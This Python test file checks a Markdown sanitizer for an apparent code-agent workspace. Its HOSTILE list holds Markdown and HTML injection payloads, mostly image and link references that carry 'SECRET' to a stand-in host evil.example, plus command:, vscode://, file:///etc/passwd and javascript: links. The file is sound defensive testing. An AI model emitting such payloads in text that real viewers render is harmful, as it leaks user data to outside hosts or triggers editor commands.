"""What a viewer makes of Markdown that was made harmless: nothing to load, to run or to follow."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from lsp_agent.workspace.markdown import harmless_markdown, harmless_message

_VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def active(text: str) -> list[str]:
    """Return what a viewer would follow, load or read as HTML."""
    found: list[str] = []

    def look(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type in ("link_open", "image", "html_block", "html_inline"):
                found.append(f"{token.type} {token.attrs} {token.content}")
            look(token.children or [])

    look(_VIEWER.parse(text))
    return found


HOSTILE = [
    "![x](https://evil.example/?d=SECRET)",
    "![x](<https://evil.example/?d=SECRET>)",
    "![x](//evil.example/?SECRET)",
    "[![x](https://evil.example/a?SECRET)](https://evil.example/b?SECRET)",
    '[click](https://evil.example/?d=SECRET "title")',
    "[click](command:workbench.action.terminal.sendSequence?SECRET)",
    "[click](vscode://file/etc/passwd?SECRET) [b](file:///etc/passwd#SECRET)",
    "[click](javascript:alert(1)?SECRET)",
    "![x][ref]\n\n[ref]: https://evil.example/?SECRET",
    "[ref]\n\n> [ref]: https://evil.example/?SECRET 'title'",
    "[a [b] c](https://evil.example/?SECRET)",
    "[a\nb](https://evil.example/?SECRET)",
    "![a\nb](\nhttps://evil.example/?SECRET\n)",
    "<https://evil.example/?SECRET> <me@evil.example>",
    "<img src='https://evil.example/?SECRET'>",
    "<a href=x>\n\n</a><!-- c --><?php ?><![CDATA[x]]><!DOCTYPE x>",
    "<div>\n```\n\n![x](https://evil.example/?SECRET)\n",
    "`\n` ![x](https://evil.example/?SECRET) `",
    "# a ` b\n` c ` ![x](https://evil.example/?SECRET) `",
    "\\` ![x](https://evil.example/?SECRET) `",
    "- a\n  ```\n![x](https://evil.example/?SECRET)\n",
    "> ```\n![x](https://evil.example/?SECRET)",
    "[x`]: https://evil.example/`\n\n[x`]",
    "| a | b |\n|---|---|\n| `x | ![y](https://evil.example/?SECRET) ` |",
    "``` a`b\n![x](https://evil.example/?SECRET)",
    "~~~\na\n~~~ b\n~~~\n![x](https://evil.example/?SECRET)",
    "\\![x](https://evil.example/?SECRET)",
    "&#33;&#91;x](https://evil.example/?SECRET)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_left_to_follow(text: str) -> None:
    shown = harmless_markdown(text)
    assert active(shown) == []
    assert "SECRET" not in shown or "```" in text or "~~~" in text


def test_addresses_are_seen_without_what_they_carry() -> None:
    assert harmless_markdown("see [the docs](https://a.example/x?q=1)!") == (
        "see the docs `https://a.example/x…`!"
    )
    assert harmless_markdown("at https://a.example/x#y, or") == "at `https://a.example/x…` or"


@pytest.mark.parametrize(
    "text",
    [
        "Adds `a < b` and `List<int>` to x[0][1].\n\n```html\n<img src='x'>\n[a](b)\n```\n",
        "# Title\n\n- one: a < b\n- **two** (`c`)\n\n1. three\n\n| a | b |\n|---|---|\n",
        "`` a ` b `` and ~~~ none",
    ],
)
def test_ordinary_text_and_code_stay(text: str) -> None:
    assert harmless_markdown(text).replace("]\\[", "][") == text


def test_a_message_holds_no_link() -> None:
    assert harmless_message("[click](command:x) \u202e") == "[click] (command:x) \u27e8U+202E\u27e9"


_PARTS = [
    "[", "]", "(", ")", "!", "`", "``", "```", "~~~", "\n", "\n\n", "\\", "<", ">", "a", " ", "  ",
    "    ", ":", "https://e.x/?S", "<img src=x>", "<b>", "<!--", "-->", "![x](u)", "[x](u)", "[x]",
    "[x]: /u", "- ", "> ", "# ", "* ", "1. ", "|", "---", "&lt;", "'", '"', "\t",
]  # fmt: skip


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(_PARTS), max_size=24).map("".join))
def test_no_viewer_finds_anything(text: str) -> None:
    assert active(harmless_markdown(text)) == []
